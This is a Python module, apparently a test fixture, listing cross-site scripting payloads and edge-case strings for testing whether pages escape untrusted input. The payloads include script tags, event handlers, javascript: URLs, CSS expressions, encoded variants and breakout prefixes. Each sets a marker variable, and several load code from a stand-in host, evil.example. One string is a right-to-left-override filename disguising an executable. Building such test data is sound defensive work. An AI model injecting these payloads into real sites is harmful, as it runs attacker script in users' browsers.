"""Strings that would do something if any page took them for markup, style, script or address."""

from __future__ import annotations

MARK = "window.__hit"
"""What every one of them tries to set."""

_CODE = f"{MARK}=1"

_BARE = (
    "<script>{0}</script>",
    "<ScRiPt>{0}</sCrIpT>",
    "</script><script>{0}</script>",
    "<script src=data:text/javascript,{0}></script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror={0}>",
    "<img/src/onerror={0}>",
    "<img src=x onerror='{0}'>",
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<body onload={0}>",
    "<iframe src=javascript:{0}></iframe>",
    "<iframe srcdoc='<script>parent.{0}</script>'></iframe>",
    "<object data=javascript:{0}></object>",
    "<embed src=javascript:{0}>",
    "<a href=javascript:{0}>x</a>",
    "<form action=javascript:{0}><button>x</button></form>",
    "<input autofocus onfocus={0}>",
    "<select autofocus onfocus={0}></select>",
    "<textarea autofocus onfocus={0}></textarea>",
    "<details open ontoggle={0}>x</details>",
    "<video><source onerror={0}></video>",
    "<audio src=x onerror={0}>",
    "<marquee onstart={0}>x</marquee>",
    "<style>@import 'javascript:{0}';</style>",
    "<style>*{{background:url(javascript:{0})}}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<base href=//evil.example/>",
    "<math><mi xlink:href=javascript:{0}>x</mi></math>",
    "<template><script>{0}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'></noscript>",
    "<title><img src=x onerror={0}></title>",
    "<xmp><p title='</xmp><img src=x onerror={0}>'></xmp>",
    "<!--<img src='--><img src=x onerror={0}>'>",
    "<![CDATA[<img src=x onerror={0}>]]>",
    "<?xml version='1.0'?><script>{0}</script>",
    "<isindex action=javascript:{0}>",
    "<table background=javascript:{0}>",
    "<div style='background:url(javascript:{0})'>",
    "<div style=width:expression({0})>",
    "<x onclick={0} tabindex=1 autofocus onfocus={0}>x</x>",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "&#60;script&#62;{0}&#60;/script&#62;",
    "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
    "%3Cscript%3E{0}%3C/script%3E",
    "{{{{ {0} }}}}",
    "{{% raw %}}{0}{{% endraw %}}",
    "${{{0}}}",
    "#{{{0}}}",
    "javascript:{0}",
    "JaVaScRiPt:{0}//",
    "data:text/html,<script>{0}</script>",
    "vbscript:{0}",
    "\x01javascript:{0}",
)

_PREFIXES = ("", "\"'>", "--></textarea></title></style></pre></details>")
"""Out of an attribute, out of an element."""

HOSTILE = tuple(prefix + bare.format(_CODE) for prefix in _PREFIXES for bare in _BARE)

UGLY = (
    "\u202egnp.exe",
    "a\u0000b".replace("\u0000", "\ufffd"),
    "\ud7ff\ue000",
    "x" * 3000,
    "🪨🌊" * 200,
    "\r\n\t " * 50 + ".",
    "```" * 100,
    "~~~\n</pre>",
)
